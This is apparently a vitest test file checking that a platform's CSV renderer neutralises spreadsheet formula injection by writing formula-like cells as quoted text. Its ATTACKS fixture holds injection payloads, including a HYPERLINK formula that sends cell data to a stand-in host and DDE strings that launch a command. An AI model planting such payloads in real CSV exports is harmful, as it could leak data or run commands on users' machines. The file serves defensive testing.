/**
 * Issue #23, item 5: CSV formula injection. Every CSV the platform writes goes through
 * `renderCsvRows`; a cell that a spreadsheet would run as a formula is written as text.
 */
import Papa from 'papaparse'
import { describe, expect, it } from 'vitest'
import { neutralizeCsvCell, renderCsvRows } from '../src/csv-rows.js'
import { renderCsv } from '../src/render-tables.js'

const ATTACKS = [
  '=HYPERLINK("https://evil.example/?"&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+9)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
]

describe('spreadsheet-safe CSV', () => {
  it('writes every formula-like cell as text, and reads back with a leading quote', () => {
    const csv = renderCsv({
      id: 'improvements',
      name: 'Improvements',
      columns: ['Title', 'Total'],
      rows: ATTACKS.map((text) => [text, 1]),
    })
    const rows = Papa.parse<string[]>(csv.replace(/^\uFEFF/, '').trim()).data
    expect(rows.slice(1).map((row) => row[0])).toEqual(ATTACKS.map((text) => `'${text}`))
    for (const [cell] of rows.slice(1)) expect(cell).not.toMatch(/^[=+\-@\t\r]/)
  })

  it('leaves numbers, negative numbers as text, and ordinary text unchanged', () => {
    expect(renderCsvRows([[-3, '-3', '+1.5', '1e-3', 'Plan - review', null, true]])).toBe(
      '-3,-3,+1.5,1e-3,Plan - review,,true\r\n',
    )
    expect(neutralizeCsvCell('-')).toBe("'-")
  })
})
